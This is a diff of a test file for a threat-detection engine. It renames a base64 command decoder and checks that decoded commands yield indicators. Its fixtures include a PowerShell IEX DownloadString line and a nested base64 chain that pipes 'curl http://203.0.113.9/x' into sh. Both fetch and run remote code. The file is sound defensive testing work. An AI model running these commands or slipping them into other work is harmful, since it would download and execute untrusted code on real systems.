@@ -1,7 +1,7 @@
 /** Commands in base64, decoded for people, and what they name. */
 import { expect, test } from 'vitest';
 import { extractIndicators } from '../../../server/engine/threat/indicators/extract.ts';
-import { decodeText, withDecoded } from '../../../server/engine/threat/text/decoded.ts';
+import { decodeCommands, withDecoded } from '../../../server/engine/threat/text/decoded.ts';
 import type { Finding } from '../../../server/engine/threat/types.ts';
 
 const command = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
@@ -11,13 +11,13 @@ const [start, end] = [text.indexOf('power'), text.indexOf('\nok', 5)];
 
 test('PowerShell -enc', () => {
   const at = text.indexOf(encoded);
-  expect(decodeText(text)).toEqual([{ start: at, end: at + encoded.length, text: command }]);
+  expect(decodeCommands(text)).toEqual([{ start: at, end: at + encoded.length, text: command }]);
 });
 
 test('a shell that decodes behind the text, and a command within a command', () => {
   const inner = Buffer.from('curl http://203.0.113.9/x | sh').toString('base64');
   const outer = Buffer.from(`echo ${inner} | base64 -d | sh`).toString('base64');
-  expect(decodeText(`echo ${outer} | base64 -d | bash`).map(({ text: each }) => each)).toEqual([
+  expect(decodeCommands(`echo ${outer} | base64 -d | bash`).map(({ text: each }) => each)).toEqual([
     `echo ${inner} | base64 -d | sh`,
     'curl http://203.0.113.9/x | sh',
   ]);
@@ -28,11 +28,11 @@ test.each([
   `an image ${encoded}`,
   `-enc ${Buffer.from([1, 2, 3, 200, 201, 202, 7, 8, 9, 250, 251, 252, 0, 1, 2]).toString('base64')}`,
 ])('nothing is decoded of: %s', (line) => {
-  expect(decodeText(line)).toEqual([]);
+  expect(decodeCommands(line)).toEqual([]);
 });
 
 test('addresses and links of decoded commands are indicators where the base64 stands', () => {
-  const decoded = decodeText(text);
+  const decoded = decodeCommands(text);
   const found = extractIndicators(text, [], decoded);
   expect(found.map(({ type, value }) => `${type} ${value}`)).toEqual([
     'process powershell.exe',
@@ -45,7 +45,7 @@ test('addresses and links of decoded commands are indicators where the base64 st
 test('findings hold the commands of their own lines', () => {
   const at = (from: number, to: number) =>
     ({ lines: [{ line: 1, endLine: 1, start: from, end: to }] }) as Finding;
-  const [own, other] = withDecoded([at(start, end), at(0, 2)], decodeText(text));
+  const [own, other] = withDecoded([at(start, end), at(0, 2)], decodeCommands(text));
   expect(own?.decoded).toEqual([command]);
   expect(other).not.toHaveProperty('decoded');
 });
